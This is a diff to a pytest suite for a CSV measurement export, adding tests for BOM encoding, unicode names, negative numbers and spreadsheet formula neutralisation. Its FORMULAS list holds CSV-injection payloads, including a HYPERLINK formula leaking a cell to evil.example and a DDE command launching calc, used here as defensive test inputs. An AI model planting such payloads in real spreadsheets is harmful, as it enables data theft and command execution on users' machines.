@@ -60,7 +60,7 @@ def _session(**changes: object) -> Session:
 
 
 def _read(path: Path) -> list[dict[str, str]]:
-    with path.open(newline="", encoding="utf-8") as file:
+    with path.open(newline="", encoding="utf-8-sig") as file:
         return list(csv.DictReader(file))
 
 
@@ -68,7 +68,7 @@ def test_header_starts_with_exactly_the_spec_columns(tmp_path: Path) -> None:
     """The first twelve columns are SPEC 9's, in order; extra columns only come after them."""
     out = tmp_path / "export.csv"
     write_measurements_csv([], out)
-    with out.open(newline="", encoding="utf-8") as file:
+    with out.open(newline="", encoding="utf-8-sig") as file:
         header = next(csv.reader(file))
     assert header[:12] == SPEC_COLUMNS == list(COLUMNS)
     assert header == list(HEADER)
@@ -172,3 +172,45 @@ def test_export_of_a_stored_database_matches_what_was_saved(tmp_path: Path) -> N
     write_measurements_csv([(client, saved)], expected)
     assert _read(out) == _read(expected)
     engine.dispose()
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tTabbed",
+    "\rReturned",
+]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_formula_cells_are_neutralised_and_read_back_with_a_quote(tmp_path: Path, name: str):
+    """A name that starts with = + - @, tab or CR comes back from Python's csv module (with the
+    BOM) as the same text behind a single quote, so a spreadsheet shows it rather than runs it."""
+    out = tmp_path / "export.csv"
+    write_measurements_csv([(Client(name, id=3), _session())], out)
+    rows = _read(out)
+    assert {row["client_name"] for row in rows} == {f"'{name}"}
+
+
+def test_negative_readings_stay_numbers(tmp_path: Path) -> None:
+    """A reading the app wrote itself (−2 degrees, table-edge) is a number, never quoted."""
+    out = tmp_path / "export.csv"
+    session = _session(method=Method.TABLE_EDGE_ANGLE, measurements=(
+        Measurement(Timepoint.BASELINE, Side.LEFT, (-2.0,)),))
+    write_measurements_csv([(CLIENT, session)], out)
+    assert [row["value"] for row in _read(out)] == ["-2.0"]
+
+
+@pytest.mark.parametrize("name", ["Zoë Ørsted-Müßig", "Анна Берг", "李小龍", "Ana 🌿💆‍♀️ Lima"])
+def test_unicode_names_round_trip_with_the_byte_order_mark(tmp_path: Path, name: str) -> None:
+    """The file starts with the UTF-8 BOM (spreadsheets then read it as UTF-8) and umlauts,
+    Cyrillic, CJK and emoji come back exactly through csv with encoding='utf-8-sig'."""
+    out = tmp_path / "export.csv"
+    write_measurements_csv([(Client(name, id=3), _session())], out)
+    assert out.read_bytes().startswith(b"\xef\xbb\xbfclient_name,")
+    with out.open(newline="", encoding="utf-8-sig") as file:
+        rows = list(csv.DictReader(file))
+    assert {row["client_name"] for row in rows} == {name}
+    assert list(rows[0])[: len(SPEC_COLUMNS)] == SPEC_COLUMNS
